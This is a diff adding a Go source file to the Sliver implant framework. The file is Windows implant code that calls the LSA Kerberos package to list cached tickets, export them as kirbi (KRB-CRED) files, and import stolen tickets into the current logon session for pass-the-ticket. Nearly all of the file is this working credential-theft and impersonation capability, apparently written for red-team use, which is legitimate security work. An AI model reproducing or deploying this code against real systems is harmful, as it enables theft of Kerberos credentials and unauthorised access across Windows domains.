@@ -0,0 +1,320 @@
+package kerberos
+
+/*
+	Sliver Implant Framework
+	Copyright (C) 2020  Bishop Fox
+
+	This program is free software: you can redistribute it and/or modify
+	it under the terms of the GNU General Public License as published by
+	the Free Software Foundation, either version 3 of the License, or
+	(at your option) any later version.
+
+	This program is distributed in the hope that it will be useful,
+	but WITHOUT ANY WARRANTY; without even the implied warranty of
+	MERCHANTABILITY or FITNESS FOR A PARTICULAR PURPOSE.  See the
+	GNU General Public License for more details.
+
+	You should have received a copy of the GNU General Public License
+	along with this program.  If not, see <https://www.gnu.org/licenses/>.
+*/
+
+import (
+	"errors"
+	"strings"
+	"syscall"
+	"unsafe"
+
+	// {{if .Debug}}
+	"log"
+	// {{end}}
+
+	"github.com/bishopfox/sliver/sliver/syscalls"
+	"golang.org/x/sys/windows"
+)
+
+const (
+	// KERB_PROTOCOL_MESSAGE_TYPE
+	kerbRetrieveEncodedTicketMessage = 8
+	kerbQueryTicketCacheExMessage    = 14
+	kerbSubmitTicketMessage          = 21
+
+	kerbRetrieveTicketAsKerbCred = 8
+
+	// Time between 1601 and 1970 in 100ns intervals
+	fileTimeEpoch = 116444736000000000
+)
+
+// Ticket - A ticket cached in the current logon session, times are unix
+// timestamps
+type Ticket struct {
+	ClientName     string
+	ClientRealm    string
+	ServerName     string
+	ServerRealm    string
+	StartTime      int64
+	EndTime        int64
+	RenewTime      int64
+	EncryptionType int32
+	Flags          uint32
+	Kirbi          []byte
+}
+
+type kerbQueryTktCacheRequest struct {
+	MessageType uint32
+	LogonID     windows.LUID
+}
+
+type kerbTicketCacheInfoEx struct {
+	ClientName     syscalls.UnicodeString
+	ClientRealm    syscalls.UnicodeString
+	ServerName     syscalls.UnicodeString
+	ServerRealm    syscalls.UnicodeString
+	StartTime      int64
+	EndTime        int64
+	RenewTime      int64
+	EncryptionType int32
+	TicketFlags    uint32
+}
+
+type kerbQueryTktCacheExResponse struct {
+	MessageType    uint32
+	CountOfTickets uint32
+	Tickets        [1]kerbTicketCacheInfoEx
+}
+
+type kerbRetrieveTktRequest struct {
+	MessageType       uint32
+	LogonID           windows.LUID
+	TargetName        syscalls.UnicodeString
+	TicketFlags       uint32
+	CacheOptions      uint32
+	EncryptionType    int32
+	CredentialsHandle [2]uintptr
+}
+
+type kerbCryptoKey struct {
+	KeyType int32
+	Length  uint32
+	Value   uintptr
+}
+
+type kerbExternalTicket struct {
+	ServiceName         uintptr
+	TargetName          uintptr
+	ClientName          uintptr
+	DomainName          syscalls.UnicodeString
+	TargetDomainName    syscalls.UnicodeString
+	AltTargetDomainName syscalls.UnicodeString
+	SessionKey          kerbCryptoKey
+	TicketFlags         uint32
+	Flags               uint32
+	KeyExpirationTime   int64
+	StartTime           int64
+	EndTime             int64
+	RenewUntil          int64
+	TimeSkew            int64
+	EncodedTicketSize   uint32
+	EncodedTicket       uintptr
+}
+
+type kerbSubmitTktRequest struct {
+	MessageType    uint32
+	LogonID        windows.LUID
+	Flags          uint32
+	KeyType        int32
+	KeyLength      uint32
+	KeyOffset      uint32
+	KerbCredSize   uint32
+	KerbCredOffset uint32
+}
+
+type lsaConnection struct {
+	handle      windows.Handle
+	authPackage uint32
+}
+
+// connect - An untrusted connection can only reach the caller's own logon
+// session, which is all we need and doesn't require any privilege
+func connect() (*lsaConnection, error) {
+	conn := &lsaConnection{}
+	status := syscalls.LsaConnectUntrusted(&conn.handle)
+	if status != 0 {
+		return nil, lsaError(status)
+	}
+	name := []byte("kerberos")
+	packageName := syscalls.LsaString{
+		Length:        uint16(len(name)),
+		MaximumLength: uint16(len(name)),
+		Buffer:        &name[0],
+	}
+	status = syscalls.LsaLookupAuthenticationPackage(conn.handle, &packageName, &conn.authPackage)
+	if status != 0 {
+		conn.close()
+		return nil, lsaError(status)
+	}
+	return conn, nil
+}
+
+func (c *lsaConnection) close() {
+	syscalls.LsaDeregisterLogonProcess(c.handle)
+}
+
+// call - Submit a message to the Kerberos package, the caller must free
+// the returned buffer with LsaFreeReturnBuffer
+func (c *lsaConnection) call(submit []byte) (uintptr, uint32, error) {
+	var response uintptr
+	var responseLength uint32
+	var protocolStatus uint32
+	status := syscalls.LsaCallAuthenticationPackage(c.handle, c.authPackage,
+		unsafe.Pointer(&submit[0]), uint32(len(submit)), &response, &responseLength, &protocolStatus)
+	if status != 0 {
+		return 0, 0, lsaError(status)
+	}
+	if protocolStatus != 0 {
+		if response != 0 {
+			syscalls.LsaFreeReturnBuffer(response)
+		}
+		return 0, 0, lsaError(protocolStatus)
+	}
+	return response, responseLength, nil
+}
+
+// List - List the tickets cached in the current logon session. When export
+// is set the tickets whose server name contains serverFilter (any when
+// empty) are also retrieved in KRB-CRED (kirbi) form. The tickets of other
+// logon sessions would require SeTcbPrivilege
+func List(export bool, serverFilter string) ([]Ticket, error) {
+	conn, err := connect()
+	if err != nil {
+		return nil, err
+	}
+	defer conn.close()
+
+	request := kerbQueryTktCacheRequest{MessageType: kerbQueryTicketCacheExMessage}
+	submit := (*[unsafe.Sizeof(request)]byte)(unsafe.Pointer(&request))[:]
+	response, _, err := conn.call(submit)
+	if err != nil {
+		return nil, err
+	}
+	defer syscalls.LsaFreeReturnBuffer(response)
+
+	cache := (*kerbQueryTktCacheExResponse)(unsafe.Pointer(response))
+	count := int(cache.CountOfTickets)
+	tickets := []Ticket{}
+	if count == 0 {
+		return tickets, nil
+	}
+	infos := (*[1 << 16]kerbTicketCacheInfoEx)(unsafe.Pointer(&cache.Tickets[0]))[:count:count]
+	for _, info := range infos {
+		ticket := Ticket{
+			ClientName:     unicodeString(info.ClientName),
+			ClientRealm:    unicodeString(info.ClientRealm),
+			ServerName:     unicodeString(info.ServerName),
+			ServerRealm:    unicodeString(info.ServerRealm),
+			StartTime:      fileTimeToUnix(info.StartTime),
+			EndTime:        fileTimeToUnix(info.EndTime),
+			RenewTime:      fileTimeToUnix(info.RenewTime),
+			EncryptionType: info.EncryptionType,
+			Flags:          info.TicketFlags,
+		}
+		if export && strings.Contains(strings.ToLower(ticket.ServerName), strings.ToLower(serverFilter)) {
+			ticket.Kirbi, err = conn.retrieve(ticket.ServerName, info.TicketFlags, info.EncryptionType)
+			if err != nil {
+				// {{if .Debug}}
+				log.Printf("Failed to export ticket for %s: %s", ticket.ServerName, err)
+				// {{end}}
+			}
+		}
+		tickets = append(tickets, ticket)
+	}
+	return tickets, nil
+}
+
+// retrieve - Fetch a cached ticket as a KRB-CRED, the target name has to
+// live in the submit buffer
+func (c *lsaConnection) retrieve(serverName string, flags uint32, encryptionType int32) ([]byte, error) {
+	name, err := windows.UTF16FromString(serverName)
+	if err != nil {
+		return nil, err
+	}
+	name = name[:len(name)-1]
+	requestSize := int(unsafe.Sizeof(kerbRetrieveTktRequest{}))
+	submit := make([]byte, requestSize+len(name)*2)
+	for index, char := range name {
+		submit[requestSize+index*2] = byte(char)
+		submit[requestSize+index*2+1] = byte(char >> 8)
+	}
+	request := (*kerbRetrieveTktRequest)(unsafe.Pointer(&submit[0]))
+	request.MessageType = kerbRetrieveEncodedTicketMessage
+	request.TicketFlags = flags
+	request.CacheOptions = kerbRetrieveTicketAsKerbCred
+	request.EncryptionType = encryptionType
+	request.TargetName = syscalls.UnicodeString{
+		Length:        uint16(len(name) * 2),
+		MaximumLength: uint16(len(name) * 2),
+		Buffer:        (*uint16)(unsafe.Pointer(&submit[requestSize])),
+	}
+
+	response, _, err := c.call(submit)
+	if err != nil {
+		return nil, err
+	}
+	defer syscalls.LsaFreeReturnBuffer(response)
+	ticket := (*kerbExternalTicket)(unsafe.Pointer(response))
+	if ticket.EncodedTicketSize == 0 || ticket.EncodedTicket == 0 {
+		return nil, errors.New("empty ticket")
+	}
+	encoded := (*[1 << 24]byte)(unsafe.Pointer(ticket.EncodedTicket))[:ticket.EncodedTicketSize:ticket.EncodedTicketSize]
+	kirbi := make([]byte, len(encoded))
+	copy(kirbi, encoded)
+	return kirbi, nil
+}
+
+// Submit - Import a KRB-CRED (kirbi) into the current logon session
+// (pass-the-ticket), the session key is read from the KRB-CRED itself
+func Submit(kirbi []byte) error {
+	if len(kirbi) == 0 {
+		return errors.New("empty ticket")
+	}
+	conn, err := connect()
+	if err != nil {
+		return err
+	}
+	defer conn.close()
+
+	requestSize := int(unsafe.Sizeof(kerbSubmitTktRequest{}))
+	submit := make([]byte, requestSize+len(kirbi))
+	copy(submit[requestSize:], kirbi)
+	request := (*kerbSubmitTktRequest)(unsafe.Pointer(&submit[0]))
+	request.MessageType = kerbSubmitTicketMessage
+	request.KerbCredSize = uint32(len(kirbi))
+	request.KerbCredOffset = uint32(requestSize)
+
+	response, _, err := conn.call(submit)
+	if err != nil {
+		return err
+	}
+	if response != 0 {
+		syscalls.LsaFreeReturnBuffer(response)
+	}
+	return nil
+}
+
+func unicodeString(str syscalls.UnicodeString) string {
+	if str.Buffer == nil || str.Length == 0 {
+		return ""
+	}
+	chars := (*[1 << 15]uint16)(unsafe.Pointer(str.Buffer))[: str.Length/2 : str.Length/2]
+	return strings.TrimSpace(windows.UTF16ToString(chars))
+}
+
+func fileTimeToUnix(fileTime int64) int64 {
+	if fileTime <= fileTimeEpoch || fileTime == 0x7FFFFFFFFFFFFFFF {
+		return 0
+	}
+	return (fileTime - fileTimeEpoch) / 10000000
+}
+
+func lsaError(status uint32) error {
+	return syscall.Errno(syscalls.LsaNtStatusToWinError(status))
+}